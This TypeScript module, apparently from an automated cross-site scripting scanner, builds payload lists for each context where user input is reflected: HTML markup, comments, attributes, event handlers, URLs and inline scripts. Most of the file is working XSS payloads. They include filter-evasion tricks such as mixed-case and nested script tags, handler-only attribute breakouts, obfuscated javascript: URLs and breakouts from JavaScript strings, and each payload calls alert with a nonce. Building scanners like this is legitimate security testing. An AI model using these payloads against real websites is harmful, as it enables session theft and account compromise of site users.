import type { Reflection } from './reflection.ts';

/** A value that makes a dialog with the trial's nonce when it is run, and what has to be clicked for that. */
export type Payload = { value: string; clicks?: string[] };

/** Calls without quotes, since those are what is most often escaped: with parentheses, and without. */
const call = 'alert(/‹nonce›/.source)';
const bareCall = 'alert`‹nonce›`';
/** Filters that list words know the commonest call. */
const otherCall = 'confirm`‹nonce›`';

/** Markup that runs by itself, each way past another habit of filters. */
const markup: Payload[] = [
  { value: `<svg onload=${call}>` },
  { value: `<script>${call}</script>` },
  { value: `<img src=x onerror=${call}>` },
  // no white space, no parentheses
  { value: `<svg/onload=${bareCall}>` },
  // filters that know one spelling
  { value: `<ScRiPt>${call}</sCrIpT>` },
  // filters that take a tag out once
  { value: `<scr<script>ipt>${call}</scr</script>ipt>` },
  // filters that list tags or handlers
  { value: `<details open ontoggle=${call}>` },
  { value: `<details open ontoggle=${otherCall}>` },
  { value: `<x-‹nonce› tabindex=1 autofocus onfocus=${call}>` },
  // filters that need a closed tag
  { value: `<img src=x onerror=${call} ` },
  { value: `<a href=javascript:${call}>‹nonce›</a>`, clicks: ['a[href*="‹nonce›"]'] },
  // decoded once more by the application
  { value: `%3Csvg onload=${call}%3E` },
];

const after = (prefix: string, payloads: readonly Payload[]): Payload[] =>
  payloads.map((payload) => ({ ...payload, value: prefix + payload.value }));

/** Values to try for a reflection, the likeliest first. */
export function payloadsFor(reflection: Reflection): Payload[] {
  switch (reflection.kind) {
    case 'markup':
      return after(reflection.end, markup);
    case 'comment':
      return [...after('-->', markup.slice(0, 4)), ...after('--!>', markup.slice(0, 1))];
    case 'attribute':
      return attributePayloads(reflection.quote);
    case 'tag':
      return [{ value: ` tabindex=1 autofocus onfocus=${call} ` }, ...after('>', markup.slice(0, 3))];
    case 'handler':
      return handlerPayloads(reflection);
    case 'url':
      return urlPayloads(reflection);
    case 'script':
      return [...scriptBreakouts(reflection.state), ...after('</script>', markup.slice(0, 3))];
  }
}

function attributePayloads(quote: '"' | "'" | ''): Payload[] {
  const out = quote === '' ? ' ' : quote;
  return [
    ...after(`${quote}>`, markup.slice(0, 4)),
    // without angle brackets: the element itself gets a handler and the focus
    { value: `${out} tabindex=1 autofocus onfocus=${call} x=${quote}` },
    { value: `${out}/tabindex=1/autofocus/onfocus=${bareCall}/x=${quote}` },
  ];
}

/** Most handlers wait for a visitor, who clicks on what is there to be clicked on. */
function handlerPayloads({ state, element, attribute }: Reflection & { kind: 'handler' }): Payload[] {
  const isByItself = /^on(?:load|error|toggle|pageshow|animation|begin)/.test(attribute);
  const clicks = isByItself ? [] : [`${element}[${attribute}*="‹nonce›"]`];
  return scriptBreakouts(state).map((payload) => ({ ...payload, clicks }));
}

function urlPayloads({ element, attribute }: Reflection & { kind: 'url' }): Payload[] {
  const address = `[${attribute.replace(':', '\\:')}*="‹nonce›"]`;
  const clicks =
    attribute === 'action'
      ? [`form${address} [type=submit]`, `form${address} button`]
      : element === 'iframe' || element === 'embed' || element === 'object'
        ? []
        : [`${element}${address}`];
  return [`javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `\u0001javascript:${bareCall}`].map(
    (value) => ({
      value,
      clicks,
    }),
  );
}

function scriptBreakouts(state: (Reflection & { kind: 'script' })['state']): Payload[] {
  switch (state) {
    case "'":
    case '"':
      return [
        { value: `${state}-${call}-${state}` },
        { value: `${state}-${bareCall}-${state}` },
        // the quote is escaped, the backslash is not: end what the string stands in, and leave the rest out
        ...['-', ');', '};', '];', '});'].map((end) => ({ value: `\\${state}${end}${call}//` })),
        { value: `${state});${call}//` },
        { value: `${state};${call}//` },
      ];
    case '`':
      return [{ value: `\${${call}}` }, { value: `\`-${call}-\`` }];
    case 'regex':
      return [{ value: `/-${call}-/x` }];
    case 'line-comment':
      return [{ value: `\n${call}//` }, { value: `\u2028${call}//` }];
    case 'block-comment':
      return [{ value: `*/${call}/*` }];
    case 'code':
      return [{ value: call }, { value: bareCall }, { value: `0;${call}//` }, { value: `x:${call}` }];
  }
}
